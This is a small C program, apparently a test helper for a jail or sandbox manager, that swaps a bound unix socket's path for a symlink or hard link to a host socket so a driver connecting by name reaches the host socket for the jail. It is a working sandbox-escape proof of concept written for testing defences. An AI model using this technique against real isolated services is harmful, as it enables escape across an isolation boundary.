/* sock_swap - escape attempt against the service driver: a jailed service
 * binds a unix socket at PATH, then replaces PATH with a symlink to TARGET
 * (a host socket; "symlink"), or with a hard link to TARGET (a host socket
 * inside a writable bind; "link"), and listens. A driver that connects to
 * PATH by name from outside follows the symlink on the host, or reaches
 * the linked socket, and talks to TARGET for the jail. Usage: sock_swap
 * symlink|link PATH TARGET. Serves nothing: waits up to 5 s for a
 * connection on its own socket, then exits 0. */
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	struct pollfd p;
	int fd;

	if (argc != 4 || strlen(argv[2]) >= sizeof(a.sun_path)) {
		fprintf(stderr, "usage: sock_swap symlink|link PATH TARGET\n");
		return 2;
	}
	strcpy(a.sun_path, argv[2]);
	unlink(a.sun_path);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror("sock_swap: bind");
		return 1;
	}
	/* The socket stays bound (to an inode no longer named): its name now
	 * leads elsewhere. */
	if (unlink(a.sun_path) < 0 ||
	    (strcmp(argv[1], "link") == 0 ? link(argv[3], a.sun_path) : symlink(argv[3], a.sun_path)) < 0) {
		perror("sock_swap: symlink");
		return 1;
	}
	if (listen(fd, 4) < 0) {
		perror("sock_swap: listen");
		return 1;
	}
	p.fd = fd;
	p.events = POLLIN;
	poll(&p, 1, 5000);
	return 0;
}
